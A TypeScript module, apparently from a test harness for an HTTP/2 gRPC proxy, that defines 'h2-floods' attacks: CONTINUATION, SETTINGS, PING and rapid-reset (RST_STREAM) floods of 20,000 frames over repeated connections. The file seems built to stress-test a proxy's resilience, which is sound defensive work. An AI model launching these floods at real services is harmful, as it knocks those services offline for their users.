// SPDX-License-Identifier: Apache-2.0

import type { Attack, Way } from "../attack.ts";
import { grpcFields, grpcHeaders, PATHS } from "../wire/grpc.ts";
import { CANCEL, FLAG, FRAME, frame, headerBlock } from "../wire/h2-frames.ts";
import { openH2Line } from "../wire/line.ts";
import { again, sideBySide } from "../wire/repeat.ts";

const CONNECTIONS = 2;
const FRAMES = 20_000;
/** Connections that each sender makes at most, one after the other. */
const MOST_TIMES = 50;

const way =
  (bytes: () => Buffer): Way =>
  (target, tools) => {
    const all = bytes();
    return sideBySide(CONNECTIONS, () =>
      again(MOST_TIMES, tools, async () => {
        const line = await openH2Line(target.port, tools, { unread: true });
        if (await line?.send(all)) tools.tally.add("frames", FRAMES);
        // A socket that is not read does not notice that it was closed.
        line?.socket.resume();
        await line?.closed();
      }),
    );
  };

const repeated = (one: Buffer): Buffer => Buffer.concat(Array.from({ length: FRAMES }, () => one));

export const attack: Attack = {
  name: "h2-floods",
  about: `${FRAMES} frames of HTTP/2 that cost the proxy more than the sender, again and again`,
  bounds: [],
  ways: {
    continuation: way(() => {
      const begun = frame(FRAME.headers, FLAG.none, 1, headerBlock(grpcFields(PATHS.send)));
      const more = frame(FRAME.continuation, FLAG.none, 1, headerBlock({ "x-a": "v".repeat(100) }));
      return Buffer.concat([begun, repeated(more)]);
    }),
    settings: way(() => repeated(frame(FRAME.settings, FLAG.none, 0))),
    ping: way(() => repeated(frame(FRAME.ping, FLAG.none, 0, Buffer.alloc(8)))),
    reset: way(() =>
      Buffer.concat(
        Array.from({ length: FRAMES / 2 }, (_, index) => [
          grpcHeaders(PATHS.send, 1 + 2 * index),
          frame(FRAME.resetStream, FLAG.none, 1 + 2 * index, CANCEL),
        ]).flat(),
      ),
    ),
  },
};
